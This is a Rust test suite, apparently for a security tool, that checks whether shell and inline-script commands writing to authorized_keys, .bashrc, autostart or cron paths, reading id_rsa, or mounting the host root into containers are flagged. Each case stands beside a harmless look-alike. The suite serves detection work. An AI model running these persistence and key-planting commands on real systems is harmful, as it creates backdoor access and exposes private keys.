//! What is written where, by programs and code that are not made for it; each beside what looks like it.

use defenseclaw_model::call::CallKind;
use serde_json::{Value, json};

use super::meaning_tests::{command, facts_in};

fn written(text: &str) -> Vec<String> {
    let facts = command(text);
    facts.writes.into_iter().map(|fact| fact.path).collect()
}

fn read(text: &str) -> Vec<String> {
    let facts = command(text);
    facts.reads.into_iter().map(|fact| fact.path).collect()
}

/// `text` writes `path`.
#[track_caller]
fn told(text: &str, path: &str) {
    assert!(
        written(text).iter().any(|known| known == path),
        "{text:?} gives {:?}",
        written(text)
    );
}

/// `text` writes nothing that has a class.
#[track_caller]
fn harmless(text: &str) {
    let facts = command(text);
    let classes: Vec<_> = facts.writes.iter().filter(|fact| fact.class.is_some()).collect();
    assert!(classes.is_empty(), "{text:?} gives {classes:?}");
}

const KEYS: &str = "/home/u/.ssh/authorized_keys";
const RC: &str = "/home/u/.bashrc";
const ANY: &str = "/home/u/.ssh/*";
const START: &str = "/home/u/.config/autostart/*";

#[test]
fn what_is_copied_into_a_folder_keeps_its_name() {
    for (text, path) in [
        ("cp authorized_keys ~/.ssh", KEYS),
        ("cp -t ~/.ssh authorized_keys", KEYS),
        ("cp --target-directory=/home/u/.ssh authorized_keys", KEYS),
        ("install -m 600 -t ~/.ssh authorized_keys", KEYS),
        ("mv /tmp/authorized_keys ~/.ssh/", KEYS),
        ("ln -st ~/.ssh /tmp/authorized_keys", KEYS),
        ("rsync authorized_keys ~/.ssh/", KEYS),
        ("scp host:keys/authorized_keys ~/.ssh/", KEYS),
        ("cp /tmp/x/.bashrc ~", RC),
        ("scp host:.bashrc ~", RC),
        ("sudo -u u cp --parents .ssh/authorized_keys ~/", KEYS),
        ("docker cp c:/k/authorized_keys ~/.ssh/", KEYS),
        ("kubectl cp ns/pod:/k ~/.ssh/authorized_keys", KEYS),
        ("podman container cp c:/k ~/.bashrc", RC),
        ("aws s3 cp s3://b/authorized_keys ~/.ssh/", KEYS),
        ("gcloud storage cp gs://b/k ~/.bashrc", RC),
        ("cmake -E copy k /home/u/.bashrc", RC),
        (
            "aria2c -d /home/u/.ssh -o authorized_keys http://h.example/k",
            KEYS,
        ),
    ] {
        told(text, path);
    }
    for text in [
        "cp a.txt ~",
        "cp a.txt ~/notes/",
        "cp -t build a b",
        "install -d -m 755 build",
        "rsync -a src/ dist/",
        "docker cp app:/out/report.html .",
        "docker cp ~/.bashrc c:/root/",
        "kubectl cp ns/pod:/var/log/app.log ./app.log",
        "aws s3 cp dist/app.js s3://site/",
        "cp bin/* /usr/local/bin/",
        "mv build/* ~/bin",
    ] {
        harmless(text);
    }
    assert_eq!(read("docker cp ~/.ssh/id_rsa c:/tmp/"), ["/home/u/.ssh/id_rsa"]);
    assert!(read("docker cp c:/etc/shadow /tmp/x").is_empty());
    assert_eq!(read("frobnicate -i/home/u/.ssh/id_rsa"), ["/home/u/.ssh/id_rsa"]);
    assert!(read("frobnicate -I/usr/include -i/home/u/.ssh/id_rsa.pub").is_empty());
}

#[test]
fn folders_are_filled_by_what_nobody_named() {
    for (text, path) in [
        ("cp -a x/. ~/.ssh/", ANY),
        ("cp -r x/* ~/.ssh", ANY),
        ("cp -rT x ~/.ssh", ANY),
        ("cp -r x/.ssh ~", ANY),
        ("ln -sfn /tmp/x ~/.ssh", ANY),
        ("rsync -a x/ ~/.ssh/", ANY),
        ("rclone copy r:x ~/.ssh", ANY),
        ("aws s3 sync s3://b/k ~/.ssh", ANY),
        ("find . -name k -exec cp -t ~/.ssh {} +", ANY),
        ("xargs -a list cp -t ~/.ssh", ANY),
        ("tar -C ~/.ssh -xf x.tar", ANY),
        ("tar xf x.tar --directory=/home/u/.ssh", ANY),
        ("tar xf x.tar --directory ~/.ssh", ANY),
        ("tar xfC x.tar ~/.ssh", ANY),
        ("tar -xf x.tar -C/home/u/.ssh", ANY),
        ("git archive HEAD | tar -x -C ~/.ssh", ANY),
        ("cd ~/.ssh && tar xf /tmp/x.tar", ANY),
        ("unzip -o x.zip -d ~/.ssh", ANY),
        ("unzip -od ~/.ssh x.zip", ANY),
        ("tar xf x.tar --one-top-level=/home/u/.ssh", ANY),
        ("cd ~/.ssh && unzip /tmp/x.zip", ANY),
        ("bsdtar -xf x.zip -C ~/.ssh", ANY),
        ("cpio -idm -D ~/.ssh < x.cpio", ANY),
        ("find x | cpio -pdm ~/.ssh", ANY),
        ("7z x x.7z -o/home/u/.ssh", ANY),
        ("7za e x.7z -o~/.config/autostart", START),
        ("unrar x x.rar /home/u/.ssh/", ANY),
        ("git clone https://h.example/k ~/.ssh", ANY),
        ("git clone --separate-git-dir ~/.ssh https://h.example/k", ANY),
        ("git --work-tree=/home/u/.ssh checkout -f", ANY),
        ("gh release download v1 -D ~/.config/autostart", START),
        ("pip download -d ~/.ssh x", ANY),
        ("python3 -m zipfile -e x.zip ~/.ssh", ANY),
        ("patch -d ~/.ssh -p0 < x.diff", ANY),
        (
            "tar xf x.tar -C ~ .config/autostart/x.desktop",
            "/home/u/.config/autostart/x.desktop",
        ),
        ("tar -xf x.tar -C / etc/cron.d/x", "/etc/cron.d/x"),
    ] {
        told(text, path);
    }
    for text in [
        "mkdir build && tar xf x.tar -C build --strip-components=1",
        "tar tf x.tar -C ~/.ssh",
        "tar xOf x.tar .env",
        "tar -C /usr/local -czf x.tar bin",
        "unzip -l x.zip -d ~/.ssh",
        "git clone https://h.example/k",
        "git clone https://h.example/dotfiles ~/dotfiles",
        "git -C ~/project pull",
        "7z a x.7z ~/.ssh",
        "cpio -it < x.cpio",
        "pip install -t build/lib x",
    ] {
        let facts = command(text);
        let far = facts.writes.iter().find(|fact| {
            let class = fact.class.as_deref();
            class.is_some_and(|class| class != "system-tree") || fact.path.contains(".ssh/")
        });
        assert!(far.is_none(), "{text:?} gives {far:?}");
    }
}

#[test]
fn outputs_are_written_however_a_program_names_them() {
    for (text, path) in [
        ("uniq k ~/.ssh/authorized_keys", KEYS),
        ("env A=1 timeout 5 uniq -u k ~/.bashrc", RC),
        ("xxd -r -p k ~/.bashrc", RC),
        ("sort --output=/home/u/.bashrc k", RC),
        ("sort k -o/home/u/.bashrc", RC),
        ("iconv -f utf8 -o ~/.bashrc k", RC),
        ("split -b 1k k ~/.bashrc", RC),
        ("csplit -f ~/.bashrc k 1", RC),
        ("sponge ~/.bashrc < k", RC),
        ("objcopy k ~/.bashrc", RC),
        ("gawk -i inplace '{print}' ~/.bashrc", RC),
        ("awk '{print > \"/home/u/.bashrc\"}' k", RC),
        ("sed -n 'w /home/u/.bashrc' k", RC),
        ("vim -es -c 'w! ~/.bashrc' -c q k", RC),
        ("sqlite3 a.db '.once /home/u/.bashrc' 'select 1'", RC),
        ("strace -f -e trace=read -o ~/.bashrc echo x", RC),
        ("script -q ~/.bashrc -c 'echo x'", RC),
        ("socat -u TCP:h:1 OPEN:/home/u/.bashrc,creat,append", RC),
        ("ncat -o ~/.bashrc h 1", RC),
        ("nmap -oN ~/.bashrc localhost", RC),
        ("tcpdump -w ~/.bashrc", RC),
        ("yq -i '.a=1' ~/.ssh/authorized_keys", KEYS),
        ("sd a b ~/.bashrc", RC),
        ("crudini --set ~/.bashrc a b c", RC),
        ("sftp h <<'E'\nget k /home/u/.bashrc\nE", RC),
        ("lftp -c 'open h; get k -o /home/u/.bashrc'", RC),
        ("tftp h -c get k /home/u/.bashrc", RC),
        ("frobnicate --output=/home/u/.bashrc k", RC),
        ("frobnicate -o ~/.config/autostart k", START),
        ("python3 gen.py --output ~/.bashrc", RC),
    ] {
        told(text, path);
    }
    for text in [
        "uniq ~/.bashrc",
        "sort ~/.bashrc",
        "awk '$1 > 3' ~/.bashrc",
        "sed -n '/w/p' ~/.bashrc",
        "vim -R ~/.bashrc",
        "frobnicate ~/.bashrc",
        "frobnicate -o build/x k",
        "strace -f ls ~/.bashrc",
        "yq '.a' ~/.ssh/config",
        "shellcheck ~/.bashrc",
    ] {
        harmless(text);
    }
}

#[test]
fn code_that_copies_and_renames_is_followed() {
    for (text, path) in [
        (
            "python3 -c \"import shutil; shutil.copy('/tmp/k', '/home/u/.ssh/authorized_keys')\"",
            KEYS,
        ),
        (
            "python3 -c \"import shutil; shutil.copy('authorized_keys', '/home/u/.ssh')\"",
            KEYS,
        ),
        (
            "python3 -c \"import shutil; shutil.copytree('x', '/home/u/.ssh', dirs_exist_ok=True)\"",
            "/home/u/.ssh/x",
        ),
        (
            "python3 -c \"import os; os.replace('k', os.path.expanduser('~/.bashrc'))\"",
            RC,
        ),
        (
            "python3 -c \"import os; os.symlink('/tmp/k', '/home/u/.bashrc')\"",
            RC,
        ),
        (
            "python3 -c \"from pathlib import Path; Path('~/.bashrc').expanduser().open('a')\"",
            RC,
        ),
        (
            "python3 -c \"from pathlib import Path; Path('k').rename('/home/u/.bashrc')\"",
            RC,
        ),
        (
            "python3 -c \"import os; os.open('/home/u/.bashrc', os.O_WRONLY)\"",
            RC,
        ),
        (
            "python3 -c \"import tarfile; tarfile.open('x').extractall('/home/u/.ssh')\"",
            ANY,
        ),
        (
            "node -e \"require('fs').copyFileSync('k', '/home/u/.bashrc')\"",
            RC,
        ),
        (
            "node -e \"const fs=require('fs'); fs.renameSync('k', '/home/u/.bashrc')\"",
            RC,
        ),
        (
            "node -e \"require('fs').cpSync('x', '/home/u/.config/autostart/', {recursive: true})\"",
            "/home/u/.config/autostart/x",
        ),
        ("bun -e \"Bun.write('/home/u/.bashrc', 'x')\"", RC),
        ("ruby -rfileutils -e \"FileUtils.mv('k', '/home/u/.bashrc')\"", RC),
        ("ruby -e \"File.rename 'k', '/home/u/.bashrc'\"", RC),
        ("perl -e 'rename \"k\", \"/home/u/.bashrc\"'", RC),
        ("perl -MFile::Copy -e 'copy(\"k\", \"/home/u/.bashrc\")'", RC),
        ("perl -e 'open(F, \">>/home/u/.bashrc\"); print F 1'", RC),
        ("perl -e 'open(my $f, \">>\", \"/home/u/.bashrc\")'", RC),
        ("php -r \"copy('k', '/home/u/.bashrc');\"", RC),
    ] {
        told(text, path);
    }
    for text in [
        "python3 -c \"import shutil; shutil.copy('/home/u/.bashrc', 'backup/rc')\"",
        "python3 -c \"print(open('/home/u/.bashrc').read().replace('a', 'b'))\"",
        "python3 -c \"d={'path': '/home/u/.bashrc'}.copy(); print(d)\"",
        "node -e \"console.log(require('fs').readFileSync('/home/u/.bashrc', 'ascii'))\"",
        "node -e \"require('fs').copyFileSync('/home/u/.bashrc', 'a')\"",
        "perl -e 'open(F, \"/home/u/.bashrc\"); print <F>'",
        "ruby -e \"puts File.read('/home/u/.bashrc').gsub('a', 'w')\"",
    ] {
        harmless(text);
    }
    let copied = "python3 -c \"import shutil; shutil.copyfile('/home/u/.ssh/id_rsa', 'x')\"";
    assert_eq!(read(copied), ["/home/u/.ssh/id_rsa"]);
    assert!(written(copied).is_empty());
}

#[test]
fn containers_are_lent_what_their_mounts_name() {
    for (text, privilege) in [
        ("docker run -it -v /:/h x", "container-host-root"),
        ("docker run -itv /:/h x", "container-host-root"),
        ("docker run -v /../:/h x", "container-host-root"),
        (
            "docker run --mount type=bind,src=//,dst=/h x",
            "container-host-root",
        ),
        (
            "docker volume create --opt device=/ --opt o=bind v",
            "container-host-root",
        ),
        ("docker run -v ~/:/h x", "container-home"),
        ("docker run -v \"$HOME\":/h:ro x", "container-home"),
        ("podman run --volume=/home/u:/h x", "container-home"),
        ("cd ~ && docker run -v \"$PWD\":/h x", "container-home"),
        ("docker compose run -v /root:/h x", "container-home"),
    ] {
        assert_eq!(command(text).privilege, [privilege], "{text:?}");
    }
    for text in [
        "docker run -it -v \"$PWD\":/src x",
        "docker run -v ~/.cache:/c x",
        "docker run -v home:/home/node x",
        "docker run --tmpfs /root x",
        "docker run -v /etc/localtime:/etc/localtime:ro x",
    ] {
        assert!(command(text).privilege.is_empty(), "{text:?}");
    }
    told("docker run -v ~/.config/autostart:/x x", START);
    told("docker run -v ~/.bashrc:/x x", RC);
    harmless("docker run -v ~/.bashrc:/x:ro x");
    harmless("docker run -v /etc/passwd:/etc/passwd:ro x");
}

#[test]
fn tools_that_are_not_known_name_their_output() {
    let of = |input: Value| facts_in(CallKind::Other, input);
    for (input, path) in [
        (json!({"url": "https://h.example/x", "output_path": RC}), RC),
        (json!({"archive": "x.zip", "extractTo": "~/.ssh"}), ANY),
        (json!({"from": "k", "savePath": "~/.ssh/authorized_keys"}), KEYS),
    ] {
        let facts = of(input);
        assert!(
            facts.writes.iter().any(|fact| fact.path == path),
            "{path} {facts:?}"
        );
    }
    for input in [
        json!({"url": "https://h.example/x", "output_path": "/home/u/p/x.png"}),
        json!({"query": RC, "note": "~/.ssh"}),
        json!({"output": "see ~/.bashrc"}),
    ] {
        assert!(of(input.clone()).writes.is_empty(), "{input}");
    }
}
